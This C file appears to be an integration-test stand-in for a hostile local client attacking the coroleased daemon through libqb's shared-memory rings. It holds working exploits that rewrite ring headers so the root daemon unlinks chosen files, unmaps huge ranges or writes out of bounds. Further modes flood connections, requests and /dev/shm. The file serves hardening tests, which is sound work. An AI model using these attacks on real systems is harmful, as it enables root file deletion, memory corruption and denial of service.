/*
 * cl-shm.c - integration-test stand-in for a hostile member of
 * socket_group that attacks coroleased through libqb's shared-memory
 * transport itself, below the corolease protocol (breaker findings of
 * issue 8).
 *
 * Copyright (c) 2026 the corolease authors.  GPL-2.0-or-later.
 *
 * libqb (2.0.x, and its master as of 2026) gives each connection three
 * rings in /dev/shm whose header files the client maps read-write (it must
 * move its own read and write pointers).  The server trusts what it reads
 * there: at disconnect it unlinks the paths stored in the header
 * (hdr_path, data_path) and munmaps word_size words; while running it
 * writes events at the header's write_pt and reads requests at its
 * read_pt, unchecked.  The client also picks the ring size: the server
 * takes the larger of the client's max_msg_size and its own.
 *
 *   cl-shm unlink DIR        rewrite every ring header's paths to
 *                            DIR/victim-hdr and DIR/victim-data, then exit
 *                            (the daemon unlinks them as root)
 *   cl-shm wordsize          set word_size to 0xffffffff in every header,
 *                            then exit (the daemon munmaps 32 GiB)
 *   cl-shm writept           set the event ring's write_pt and read_pt far
 *                            out of the ring, then ask for STATUS (the
 *                            daemon writes its answer there)
 *   cl-shm truncate          HELLO, truncate the event and response rings' data files to 0
 *                            bytes (the client owns them), then STATUS (the
 *                            daemon's write to its mapping raises SIGBUS)
 *   cl-shm bigbuf MIB N      open N connections asking for MIB MiB rings;
 *                            print "open K" and "ready", run until SIGTERM
 *   cl-shm noread N NAME KEY K
 *                            N connections, each HELLO, then K INDEX_GET of
 *                            NAME/KEY, never reading the answers; print
 *                            "sent N" and "ready", run until SIGTERM
 *   cl-shm connflood SECS    connect to the daemon's socket and close, in a
 *                            loop for SECS seconds (no handshake ever); print
 *                            "connects K"
 *   cl-shm listflood N SECS PREFIX
 *                            N connections, each HELLO, then LIST PREFIX
 *                            (matching nothing) 50 at a time, reading the
 *                            answers, for SECS seconds; print "lists K"
 *   cl-shm authflood SECS    libqb connections (full handshake) in a loop
 *                            for SECS seconds; print "attempts K refused R"
 *   cl-shm fill MIB N        at most N connections, the first asking for MIB
 *                            MiB rings, each size halved (down to 256 KiB)
 *                            once the daemon refuses it: fills /dev/shm;
 *                            print "open K KIB" and "ready", run until SIGTERM
 *
 * Prints what it did, "ready" once the attack is armed.
 */
#define _GNU_SOURCE 1
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include <qb/qbipcc.h>

#include "corolease/ipc.h"
#include "clt.h"

/* libqb 2.0's lib/ringbuffer_int.h (the part before the semaphore). */
struct rb_shared {
	volatile uint32_t write_pt;
	volatile uint32_t read_pt;
	uint32_t word_size;
	char hdr_path[PATH_MAX];
	char data_path[PATH_MAX];
};

typedef void (*hdr_fn)(const char *file, struct rb_shared *h, void *ctx);

/*
 * Calls fn for the mapped header of every ring of this process's
 * connections: /dev/shm/qb-SERVERPID-OURPID-FD-XXXXXX/ *-header.
 */
static int each_header(hdr_fn fn, void *ctx)
{
	char mine[32];
	snprintf(mine, sizeof(mine), "-%d-", (int)getpid());
	DIR *d = opendir("/dev/shm");
	if (!d)
		return -1;
	int n = 0;
	struct dirent *e;
	while ((e = readdir(d))) {
		if (strncmp(e->d_name, "qb-", 3))
			continue;
		/* qb-SPID-CPID-...: the client pid is the second number */
		const char *p = strchr(e->d_name + 3, '-');
		if (!p || strncmp(p, mine, strlen(mine)))
			continue;
		char dir[PATH_MAX];
		snprintf(dir, sizeof(dir), "/dev/shm/%s", e->d_name);
		DIR *cd = opendir(dir);
		if (!cd)
			continue;
		struct dirent *f;
		while ((f = readdir(cd))) {
			size_t l = strlen(f->d_name);
			if (l < 7 || strcmp(f->d_name + l - 7, "-header"))
				continue;
			char path[PATH_MAX * 2];
			snprintf(path, sizeof(path), "%s/%s", dir, f->d_name);
			int fd = open(path, O_RDWR);
			if (fd < 0) {
				printf("cannot open %s: %s\n", path, strerror(errno));
				continue;
			}
			struct rb_shared *h = mmap(NULL, sizeof(*h), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
			close(fd);
			if (h == MAP_FAILED)
				continue;
			fn(f->d_name, h, ctx);
			munmap(h, sizeof(*h));
			n++;
		}
		closedir(cd);
	}
	closedir(d);
	return n;
}

static void set_paths(const char *file, struct rb_shared *h, void *ctx)
{
	const char *dir = ctx;
	printf("%s: hdr_path %s -> %s/victim-hdr\n", file, h->hdr_path, dir);
	snprintf(h->hdr_path, sizeof(h->hdr_path), "%s/victim-hdr", dir);
	snprintf(h->data_path, sizeof(h->data_path), "%s/victim-data", dir);
}

static void set_wordsize(const char *file, struct rb_shared *h, void *ctx)
{
	(void)ctx;
	printf("%s: word_size %u -> 0xffffffff\n", file, h->word_size);
	h->word_size = 0xffffffffu;
}

static void set_writept(const char *file, struct rb_shared *h, void *ctx)
{
	(void)ctx;
	if (!strstr(file, "-event-"))
		return;
	/* far beyond the ring: the daemon's next event goes to data + 4 * write_pt */
	printf("%s: write_pt %u -> 0x40000000 (word_size %u)\n", file, h->write_pt, h->word_size);
	h->read_pt = 0x40000000u + 0x100000u;
	h->write_pt = 0x40000000u;
}

/* Truncates the event and response ring data files of this process's connections to 0 bytes. */
static int truncate_data(void)
{
	char mine[32];
	snprintf(mine, sizeof(mine), "-%d-", (int)getpid());
	DIR *d = opendir("/dev/shm");
	if (!d)
		return -1;
	int n = 0;
	struct dirent *e;
	while ((e = readdir(d))) {
		const char *p = strncmp(e->d_name, "qb-", 3) ? NULL : strchr(e->d_name + 3, '-');
		if (!p || strncmp(p, mine, strlen(mine)))
			continue;
		char dir[PATH_MAX];
		snprintf(dir, sizeof(dir), "/dev/shm/%s", e->d_name);
		DIR *cd = opendir(dir);
		if (!cd)
			continue;
		struct dirent *f;
		while ((f = readdir(cd))) {
			size_t l = strlen(f->d_name);
			/* not the request ring: this client writes that one */
			if (l < 5 || strcmp(f->d_name + l - 5, "-data") || strstr(f->d_name, "-request-"))
				continue;
			char path[PATH_MAX * 2];
			snprintf(path, sizeof(path), "%s/%s", dir, f->d_name);
			if (truncate(path, 0) == 0)
				n++;
			else
				printf("cannot truncate %s: %s\n", path, strerror(errno));
		}
		closedir(cd);
	}
	closedir(d);
	return n;
}

static qb_ipcc_connection_t *conn(size_t max)
{
	qb_ipcc_connection_t *c = qb_ipcc_connect(clt_service(), max);
	if (!c) {
		printf("connect failed: %s\n", strerror(errno));
		return NULL;
	}
	return c;
}

static int send_req(qb_ipcc_connection_t *c, uint32_t type, void *req, size_t len)
{
	struct clp_req_base *b = req;
	b->hdr.id = (int32_t)type;
	b->hdr.size = (int32_t)len;
	struct iovec iov = { req, len };
	return (int)qb_ipcc_sendv(c, &iov, 1);
}

static void hello(qb_ipcc_connection_t *c)
{
	struct clp_req_hello h;
	memset(&h, 0, sizeof(h));
	h.b.cookie = 1;
	h.version = CLP_VERSION;
	send_req(c, CLP_REQ_HELLO, &h, sizeof(h));
	char buf[4096];
	qb_ipcc_event_recv(c, buf, sizeof(buf), 2000);
}

int main(int argc, char **argv)
{
	clt_start();
	if (argc < 2)
		return 2;
	if (!strcmp(argv[1], "unlink") && argc == 3) {
		if (!conn(CLP_MAX_MSG))
			return 1;
		printf("rewritten %d\n", each_header(set_paths, argv[2]));
		printf("ready\n");
		_exit(0);   /* the kernel closes the socket: the daemon tears down */
	}
	if (!strcmp(argv[1], "wordsize")) {
		if (!conn(CLP_MAX_MSG))
			return 1;
		printf("rewritten %d\n", each_header(set_wordsize, NULL));
		printf("ready\n");
		_exit(0);
	}
	if (!strcmp(argv[1], "writept")) {
		qb_ipcc_connection_t *c = conn(CLP_MAX_MSG);
		if (!c)
			return 1;
		hello(c);
		printf("rewritten %d\n", each_header(set_writept, NULL));
		struct clp_req_base s;
		memset(&s, 0, sizeof(s));
		s.cookie = 2;
		printf("status sent: %d\n", send_req(c, CLP_REQ_STATUS, &s, sizeof(s)));
		printf("ready\n");
		while (!clt_stop)
			pause();
		_exit(0);
	}
	if (!strcmp(argv[1], "truncate")) {
		qb_ipcc_connection_t *c = conn(CLP_MAX_MSG);
		if (!c)
			return 1;
		hello(c);
		printf("truncated %d\n", truncate_data());
		struct clp_req_base s;
		memset(&s, 0, sizeof(s));
		s.cookie = 2;
		printf("status sent: %d\n", send_req(c, CLP_REQ_STATUS, &s, sizeof(s)));
		printf("ready\n");
		while (!clt_stop)
			pause();
		_exit(0);
	}
	if (!strcmp(argv[1], "bigbuf") && argc == 4) {
		size_t mib = strtoul(argv[2], NULL, 10);
		int n = atoi(argv[3]), k = 0;
		for (int i = 0; i < n; i++) {
			qb_ipcc_connection_t *c = qb_ipcc_connect(clt_service(), mib << 20);
			if (!c) {
				printf("connection %d failed: %s\n", i + 1, strerror(errno));
				break;
			}
			k++;
		}
		printf("open %d\n", k);
		printf("ready\n");
		while (!clt_stop)
			pause();
		return 0;
	}
	if (!strcmp(argv[1], "noread") && argc == 6) {
		int n = atoi(argv[2]), k = atoi(argv[5]), ok = 0;
		size_t nl = strlen(argv[3]), kl = strlen(argv[4]);
		for (int i = 0; i < n; i++) {
			qb_ipcc_connection_t *c = conn(CLP_MAX_MSG);
			if (!c)
				break;
			hello(c);
			uint8_t req[sizeof(struct clp_req_index) + 2048];
			struct clp_req_index *r = (struct clp_req_index *)req;
			memset(r, 0, sizeof(*r));
			r->namelen = (uint16_t)nl;
			r->keylen = (uint8_t)kl;
			memcpy(req + sizeof(*r), argv[3], nl);
			memcpy(req + sizeof(*r) + nl, argv[4], kl);
			for (int j = 0; j < k; j++) {
				r->b.cookie = 10 + (uint64_t)j;
				send_req(c, CLP_REQ_INDEX_GET, req, sizeof(*r) + nl + kl);
			}
			ok++;
		}
		printf("sent %d\n", ok);
		printf("ready\n");
		while (!clt_stop)
			pause();
		return 0;
	}
	if (!strcmp(argv[1], "connflood") && argc == 3) {
		struct sockaddr_un a;
		memset(&a, 0, sizeof(a));
		a.sun_family = AF_UNIX;
		snprintf(a.sun_path + 1, sizeof(a.sun_path) - 1, "%s", clt_service());
		time_t end = time(NULL) + atoi(argv[2]);
		long k = 0, fails = 0;
		printf("ready\n");
		while (!clt_stop && time(NULL) < end) {
			int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
			if (fd < 0)
				break;
			if (connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0)
				fails++;
			else
				k++;
			close(fd);
		}
		printf("connects %ld failed %ld\n", k, fails);
		return 0;
	}
	if (!strcmp(argv[1], "listflood") && argc == 5) {
		int n = atoi(argv[2]);
		time_t end = time(NULL) + atoi(argv[3]);
		size_t pl = strlen(argv[4]);
		qb_ipcc_connection_t **cs = calloc((size_t)n, sizeof(*cs));
		int m = 0;
		for (int i = 0; i < n; i++) {
			if (!(cs[m] = conn(CLP_MAX_MSG)))
				break;
			hello(cs[m++]);
		}
		uint8_t req[sizeof(struct clp_req_name) + 1024];
		struct clp_req_name *r = (struct clp_req_name *)req;
		memset(r, 0, sizeof(*r));
		r->namelen = (uint16_t)pl;
		memcpy(req + sizeof(*r), argv[4], pl);
		long lists = 0;
		static char buf[CLP_MAX_MSG];
		printf("ready %d\n", m);
		while (!clt_stop && time(NULL) < end) {
			for (int i = 0; i < m; i++) {
				for (int j = 0; j < 50; j++) {
					r->b.cookie = 100 + (uint64_t)j;
					if (send_req(cs[i], CLP_REQ_LIST, req, sizeof(*r) + pl) > 0)
						lists++;
				}
				while (qb_ipcc_event_recv(cs[i], buf, sizeof(buf), 0) > 0)
					;
			}
		}
		printf("lists %ld\n", lists);
		return 0;
	}
	if (!strcmp(argv[1], "authflood") && argc == 3) {
		time_t end = time(NULL) + atoi(argv[2]);
		long k = 0, refused = 0;
		const char *svc = clt_service();
		printf("ready\n");
		while (!clt_stop && time(NULL) < end) {
			qb_ipcc_connection_t *c = qb_ipcc_connect(svc, CLP_MAX_MSG);
			k++;
			if (!c)
				refused++;
			else
				qb_ipcc_disconnect(c);
		}
		printf("attempts %ld refused %ld\n", k, refused);
		return 0;
	}
	if (!strcmp(argv[1], "fill") && argc == 4) {
		size_t kib = strtoul(argv[2], NULL, 10) * 1024;
		int n = atoi(argv[3]), k = 0;
		size_t total = 0;
		while (k < n && kib >= 256) {
			qb_ipcc_connection_t *c = qb_ipcc_connect(clt_service(), kib << 10);
			if (!c) {
				printf("%zu KiB rings refused: %s\n", kib, strerror(errno));
				kib /= 2;
				continue;
			}
			printf("connection %d: %zu KiB rings\n", ++k, kib);
			total += 3 * kib;
		}
		printf("open %d %zu\n", k, total);
		printf("ready\n");
		while (!clt_stop)
			pause();
		return 0;
	}
	fprintf(stderr, "usage: cl-shm unlink DIR | wordsize | writept | bigbuf MIB N | fill MIB N\n");
	return 2;
}
